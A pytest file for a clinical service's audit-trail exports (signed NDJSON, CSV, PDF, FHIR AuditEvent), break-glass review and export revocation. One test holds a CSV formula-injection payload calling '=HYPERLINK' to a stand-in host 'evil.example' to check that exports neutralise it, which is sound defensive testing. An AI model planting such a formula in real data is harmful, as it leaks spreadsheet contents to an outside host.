"""The trail leaves whole, signed and on record: as JSON lines, CSV and FHIR R4 AuditEvent."""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import io
import json
import socket
from datetime import datetime, timezone

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from harness import CHEST_PAIN, HARMLESS, SECRET, Server, claims, hs256, run, wait_for
from test_access import steps_up
from test_signin import activate, add, bearer, sign_in

BALP = "https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit."
DICOM = "http://dicom.nema.org/resources/ontology/DCM"
OFFICER = claims(sub="officer", role="compliance", scope="audit.clinical")


@pytest.fixture(scope="module")
def trail(tmp_path_factory):
    server = Server(tmp_path_factory.mktemp("export") / "data", APP_JWT_HS256_SECRET=SECRET)
    server.start()
    server.officer = server.http(headers={"Authorization": "Bearer " + hs256(OFFICER)})
    for name, text in [("ill", CHEST_PAIN), ("calm", HARMLESS)]:
        with server.patient(name, name) as patient:
            patient.ask(text)
            patient.until("message")
    with server.http("nurse", headers={"X-Request-ID": "worked"}) as nurse:
        entry = nurse.get("/api/nurse/queue").json()["queue"][0]
        nurse.get(f"/api/nurse/queue/{entry['id']}")
        act = {"action": "override", "override_reason": "known_patient_condition",
               "changes": {"urgency": "urgent"}}
        assert nurse.post(f"/api/nurse/queue/{entry['id']}/action", json=act).is_success
        nurse.get("/api/audit/events")
    with server.http("nurse", "n2") as other:
        other.get(f"/api/nurse/queue/{entry['id']}")
    server.entry = entry
    yield server
    server.kill()


def export(trail, **query) -> bytes:
    answer = trail.officer.get("/api/audit/export", params=query)
    assert answer.status_code == 200, answer.text
    return answer.content


def manifest(body: bytes, jws: str) -> dict:
    """Checks the signature and the digest of everything before the manifest's line."""
    head, claims_, signature = jws.split(".")
    pad = lambda t: base64.urlsafe_b64decode(t + "=" * (-len(t) % 4))  # noqa: E731
    key = Ed25519PublicKey.from_public_bytes(pad(json.loads(pad(head))["jwk"]["x"]))
    key.verify(pad(signature), f"{head}.{claims_}".encode())
    told = json.loads(pad(claims_))
    before = body[: body.rstrip(b"\r\n").rfind(b"\n") + 1]
    assert told["sha256"] == hashlib.sha256(before).hexdigest()
    return told


def test_json_lines_hold_every_event_found_and_a_signed_manifest(trail):
    body = export(trail, format="ndjson")
    lines = [json.loads(line) for line in body.splitlines()]
    told = manifest(body, lines[-1]["manifest"])
    events = lines[:-1]
    assert told["events"] == len(events) and told["format"] == "ndjson"
    listed = trail.audit()
    shown = {e["seq"]: e for e in listed}
    assert all(shown[e["seq"]] == e for e in events)
    assert [e["seq"] for e in events] == sorted((e["seq"] for e in events), reverse=True)
    changed = body.replace(b'"type":"', b'"type":"X', 1)
    with pytest.raises(AssertionError):
        manifest(changed, lines[-1]["manifest"])


def test_the_key_of_a_manifest_is_the_one_the_service_names_before_and_after_a_restart(fresh):
    """Else anybody could sign a changed file anew with a key of their own."""
    server = fresh().start()
    named = []
    for _ in range(2):
        with server.http("compliance") as officer:
            named.append(officer.get("/api/audit/head").json()["export_key"])
            lines = officer.get("/api/audit/export?format=ndjson").text.splitlines()
        head = json.loads(lines[-1])["manifest"].split(".")[0]
        assert json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))["jwk"] == named[-1]
        server.terminate()
        server.start()
    assert named[0] == named[1] and set(named[0]) == {"kty", "crv", "x"}


def test_a_pdf_tells_every_event_and_ends_with_its_signed_manifest(trail):
    body = export(trail, format="pdf")
    place = body.rfind(b"% manifest ")
    told = manifest(body[:place] + body[place:].splitlines()[0] + b"\n", body[place + 11 :].split()[0].decode())
    text = body.replace(b"\\(", b"(").replace(b"\\)", b")").decode("latin-1")
    assert told["format"] == "pdf" and told["events"] > 20
    assert text.startswith("%PDF-") and text.rstrip().endswith("%%EOF")
    assert int(text.split("startxref\n")[-1].split()[0]) == body.find(b"xref\n0 ")
    for event in trail.audit(type="case_acted_on"):
        assert f"{event['seq']} {event['recorded_at']} case_acted_on U success {event['actor']['id']} (nurse)" in text


def test_csv_holds_the_same_rows(trail):
    body = export(trail, format="csv", type="viewing_started")
    text = body.decode()
    last = text.splitlines()[-1]
    told = manifest(body, last.removeprefix("# manifest "))
    rows = list(csv.DictReader(io.StringIO(text[: text.rindex("# manifest")])))
    assert len(rows) == told["events"] > 2
    listed = {e["seq"]: e for e in trail.audit(type="viewing_started")}
    for row in rows:
        event = listed[int(row["seq"])]
        assert row["patient_ids"].split() == event["patient_ids"]
        assert row["view"] == event["view"] and row["actor"] == event["actor"]["id"]
        assert row["filter"] == (event["filter"] or "")


def test_a_quote_with_a_mark_above_it_ends_no_cell_of_a_table(fresh):
    """What somebody searched for, and what an alert is called, stand in their own column whatever they hold."""
    evil = '"\u0301,=HYPERLINK("http://evil.example/"&A1),"\u0301\r\n=1+1,x'
    server = fresh().start()
    with server.http("patient", "mallory") as patient:
        session = patient.post("/api/sessions", json={}).json()["session_id"]
        assert patient.get("/fhir/AuditEvent", params={"_id": evil}).status_code == 200
    with server.http("nurse") as nurse:
        label = evil.replace("\r\n", " ")
        assert nurse.post("/api/emergency/alerts", json={"session_id": session, "label": label}).status_code == 201
        table = nurse.get("/api/nurse/analytics", params={"format": "csv", "time_range": "all"}).text
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert any(label in row for row in rows)
    assert {len(row) for row in rows} == {4} and not any(cell.startswith("=") for row in rows for cell in row)
    with server.http("compliance") as officer:
        trail = officer.get("/api/audit/export", params={"format": "csv", "type": "viewing_started"}).text
    rows = list(csv.reader(io.StringIO(trail[: trail.rindex("# manifest")], newline="")))
    assert len(rows) > 2 and len({len(row) for row in rows}) == 1
    assert not any(cell.startswith("=") for row in rows for cell in row)


def coded(concept: dict) -> str:
    return concept["coding"][0]["code"] if "coding" in concept else concept["code"]


def balp(event: dict) -> str | None:
    """BALP's own rules for the profile a resource claims; the profile's name."""
    profiles = event.get("meta", {}).get("profile", [])
    if not profiles:
        return None
    (profile,) = profiles
    name = profile.removeprefix(BALP)
    kind = name.removeprefix("Patient")
    action, interaction = {
        "Read": ("R", "read"), "Query": ("E", "search"), "Create": ("C", "create"),
        "Update": ("U", "update"),
    }[kind]
    assert event["type"]["code"] == "rest" and event["action"] == action
    assert interaction in [s["code"] for s in event["subtype"]]
    assert event["outcome"] == "0" and event["recorded"] and event["source"]["observer"]
    by = {coded(a["type"]): a for a in event["agent"]}
    assert {"110152", "110153"} <= set(by) and len(by) == len(event["agent"])
    client, server = ("110152", "110153") if kind == "Read" else ("110153", "110152")
    for end in (client, server):
        assert by[end]["who"] and by[end]["network"]["address"] and not by[end]["requestor"]
        assert by[end]["type"]["coding"][0]["system"] == DICOM
    (user,) = [a for c, a in by.items() if c not in (client, server)]
    assert coded(user["type"]) in ({"IRCP"} if kind in ("Read", "Query") else {"AUT", "INF", "CST"})
    assert user["requestor"] is True and user["who"] and "network" not in user
    persons = [e for e in event["entity"] if e["type"]["code"] == "1"]
    things = [e for e in event["entity"] if e["type"]["code"] == "2"]
    assert len(persons) == (1 if name.startswith("Patient") else 0) and len(things) == 1
    for person in persons:
        assert person["role"]["code"] == "1"
        assert person["what"]["reference"].startswith("Patient/pat-")
    if kind == "Query":
        assert things[0]["role"]["code"] == "24" and "what" not in things[0]
        assert base64.b64decode(things[0]["query"]).decode() == things[0]["description"]
    else:
        assert things[0]["role"]["code"] in ("3", "4", "20") and things[0]["what"]
    for request in [e for e in event["entity"] if e["type"]["code"] == "XrequestId"]:
        assert request["what"]["identifier"]["value"]
    return name


def test_fhir_resources_are_valid_r4_and_follow_balp(trail):
    """Each line a resource that fhir.resources takes; each profile claimed is kept; all kinds occur."""
    from fhir.resources.R4B.auditevent import AuditEvent
    from fhir.resources.R4B.provenance import Provenance

    body = export(trail, format="fhir")
    lines = [json.loads(line) for line in body.splitlines()]
    provenance = Provenance.model_validate(lines[-1])
    told = manifest(body, base64.b64decode(lines[-1]["signature"][0]["data"]).decode())
    assert provenance.signature and told["format"] == "fhir"
    names = set()
    for line in lines[:-1]:
        AuditEvent.model_validate(line)
        names.add(balp(line))
    assert {"PatientRead", "PatientQuery", "PatientUpdate", "PatientCreate", "Query"} <= names
    listed = {e["seq"]: e for e in trail.audit()}
    for seq, event in listed.items():
        if seq >= told["log_size"] or not event["patient_ids"]:
            continue
        about = [r for r in lines[:-1] if r["id"].split("-")[2] == str(seq)]
        assert len(about) == len(event["patient_ids"])


def test_each_export_is_on_record_with_the_patients_it_names_why_and_from_where(trail):
    before = len(trail.audit(type="record_exported"))
    export(trail, format="ndjson", patient_id=trail.entry["patient_id"])
    made = trail.audit(type="record_exported")
    assert len(made) == before + 1 and made[0]["view"] == "audit.ndjson"
    assert trail.entry["patient_id"] in made[0]["patient_ids"]
    assert (made[0]["purpose"], made[0]["source_ip"]) == ("HCOMPL", "127.0.0.1")
    with trail.http("patient", "ill") as own:
        assert own.get("/api/me/export").status_code == 200
        me = own.get("/api/auth/me").json()["user_id"]
    (taken,) = trail.audit(type="record_exported", purpose="PATRQT", actor=me)
    assert taken["source_ip"] == "127.0.0.1"


def test_the_patient_and_the_officer_see_to_whom_the_record_was_shown(trail):
    patient = trail.entry["patient_id"]
    told = trail.officer.get("/api/audit/disclosures", params={"patient_id": patient}).json()
    views = {(d["what"], d["view"]) for d in told["items"]}
    assert {("shown", "queue"), ("shown", "case"), ("exported", "audit.ndjson")} <= views
    with trail.http("patient", "ill") as own:
        mine = own.get("/api/audit/disclosures").json()
        assert mine["patient_id"] == patient and len(mine["items"]) >= len(told["items"])
        other = own.get("/api/audit/disclosures", params={"patient_id": "pat_" + "0" * 26})
        assert other.status_code == 403


def test_a_case_opened_without_a_claim_is_told_and_one_that_was_worked_is_not(trail):
    """The nurse who decided is not asked; the one who only looked is. Hours make after-hours looks."""
    told = trail.officer.get("/api/audit/insights", params={"hours": "0-1"}).json()
    with trail.http("nurse", "n2") as other:
        looker = other.get("/api/auth/me").json()["user_id"]
    with trail.http("nurse") as nurse:
        worker = nurse.get("/api/auth/me").json()["user_id"]
    found = {(i["user_id"], p) for i in told["no_claim"] for p in i["patient_ids"]}
    assert (looker, trail.entry["patient_id"]) in found
    assert worker not in {user for user, _ in found}
    assert told["complete"] and told["unreviewed_emergency_access"] == []


def test_a_namesakes_look_and_an_emergency_nobody_reviewed_are_told_until_it_is_reviewed(fresh):
    """A nurse called as the patient; a break-glass grant before and after its review."""
    server = fresh(APP_JWT_HS256_SECRET=SECRET)
    codes = {
        "rita": add(server, "rita", name="Rita Miller"),
        "saul": add(server, "saul", name="Saul Stone"),
        "wanda": add(server, "wanda", name="Wanda Wise", unit="ward-9"),
    }
    server.start()
    people = {}
    for login, code in codes.items():
        assert activate(server, login, code).status_code == 201
        people[login] = sign_in(server, login).json()
    with server.http(headers=bearer(people["rita"]["access_token"])) as rita, \
            server.http(headers=bearer(people["saul"]["access_token"])) as saul, \
            server.http(headers=steps_up(server, "nurse", people["wanda"]["user_id"])) as wanda, \
            server.http(headers={"Authorization": "Bearer " + hs256(OFFICER)}) as officer:
        new = {"external_id": "m-1", "name": "Jon MILLER", "birth_date": "1960-01-01"}
        patient = saul.post("/api/patients", json=new).json()["patient_id"]
        made = saul.post("/api/sessions", json={"patient_id": patient}).json()["session_id"]
        saul.post(f"/api/sessions/{made}/takeover")
        for nurse in (rita, saul):
            assert nurse.get(f"/api/sessions/{made}").status_code == 200
        opened = wanda.post("/api/emergency/access", json={
            "patient_id": patient, "reason_code": "ETREAT",
            "justification": "Unconscious on arrival, history needed", "duration_seconds": 600,
        })
        assert opened.status_code == 201, opened.text
        grant = opened.json()["grant_id"]
        # In a window that holds nothing else the grant is told as well, and the look names whose record it opens.
        me = officer.get("/api/auth/me").json()["user_id"]
        now = datetime.now(timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
        wait_for(lambda: officer.get("/api/audit/insights", params={"from": now}).status_code == 200, what="a window")
        assert [e["view"] for e in server.audit(type="viewing_started", actor=me, patient_id=patient)] == ["insights"]
        told = officer.get("/api/audit/insights").json()
        namesakes = {(i["user_id"], p) for i in told["same_surname"] for p in i["patient_ids"]}
        assert namesakes == {(people["rita"]["user_id"], patient)}
        waiting = told["unreviewed_emergency_access"]
        assert [g["grant_id"] for g in waiting] == [grant] and waiting[0]["overdue"] is False
        assert wanda.post(f"/api/emergency/access/{grant}/end").status_code == 200
        assert officer.post(
            f"/api/emergency/access/{grant}/review", json={"outcome": "justified"}
        ).status_code == 200
        assert officer.get("/api/audit/insights").json()["unreviewed_emergency_access"] == []


def test_what_changed_in_a_case_is_told_commit_by_commit_with_who_and_why(trail):
    told = trail.officer.get(
        "/api/audit/diff", params={"session_id": trail.entry["session_id"]}
    ).json()
    acted = [c for c in told["changes"] if any(m["path"] == "urgency" for m in c["changes"])]
    moved = {m["path"]: (m["before"], m["after"]) for m in acted[-1]["changes"]}
    assert moved["urgency"] == ("emergency", "urgent")
    assert acted[-1]["by"]["id"].startswith("usr_")
    seqs = [c["seq"] for c in told["changes"]]
    assert seqs == sorted(seqs)
    half = trail.officer.get(
        "/api/audit/diff",
        params={"session_id": trail.entry["session_id"], "from_seq": seqs[-2], "to_seq": seqs[-1]},
    ).json()
    assert [c["seq"] for c in half["changes"]] == seqs[-1:]


def test_the_command_line_asks_the_same_questions_of_a_running_service_and_is_on_record(trail):
    """search, show, replay, diff and export answer what HTTP answers; words only with --clinical."""
    data = ("--data", trail.directory)

    def ask(word: str, *words: str) -> str:
        done = run("audit", word, *data, *words)
        assert done.returncode == 0, done.stderr
        return done.stdout

    found = json.loads(ask("search", "--type", "case_acted_on"))["items"]
    assert [e["seq"] for e in found] == [e["seq"] for e in trail.audit(type="case_acted_on")]
    seq = str(found[0]["seq"])
    assert json.loads(ask("show", "--seq", seq))["payload"] is None
    opened = json.loads(ask("show", "--seq", seq, "--clinical"))["payload"]
    assert opened["override_reason"] == "known_patient_condition"
    session = ("--session", trail.entry["session_id"])
    blind = json.loads(ask("replay", *session, "--seq", seq))
    seen = json.loads(ask("replay", *session, "--seq", seq, "--clinical"))
    assert blind["redacted"] and CHEST_PAIN not in json.dumps(blind)
    assert seen["state"]["messages"][0]["content"] == CHEST_PAIN
    assert json.loads(ask("diff", *session))["changes"]
    body = ask("export", "--format", "csv", "--type", "case_acted_on").encode()
    assert b"case_acted_on" in body
    assert run("audit", "show", *data, "--seq", "99999999").returncode == 1
    asked = [e for e in trail.audit() if e["view"] in ("replay", "diff", "audit.csv")]
    assert len({e["view"] for e in asked}) == 3


def test_an_export_under_way_ends_when_the_officers_right_is_taken_back(fresh):
    server = fresh(APP_JWT_HS256_SECRET=SECRET).start()
    with server.patient("ill", "s") as patient:
        # More than lies between the two in the buffers of a connection.
        for number in range(1_500):
            patient.say(HARMLESS, f"m-{number}")
        patient.until("ack", 60, client_id="m-1499")
    token = hs256(OFFICER | {"jti": "one"})
    request = "GET /api/audit/export HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token + "\r\n\r\n"
    with socket.socket() as slow:
        slow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        slow.connect(("127.0.0.1", server.port))
        slow.settimeout(20)
        slow.sendall(request.encode())
        got = slow.recv(2000)
        assert b" 200 " in got
        with server.http(headers=bearer(token)) as officer:
            assert officer.post("/api/auth/logout", json={}).status_code == 204
        with contextlib.suppress(ConnectionError):
            while chunk := slow.recv(65_536):
                got += chunk
                if got.endswith(b"0\r\n\r\n"):
                    break
    assert b'"manifest"' not in got and not got.endswith(b"0\r\n\r\n"), len(got)
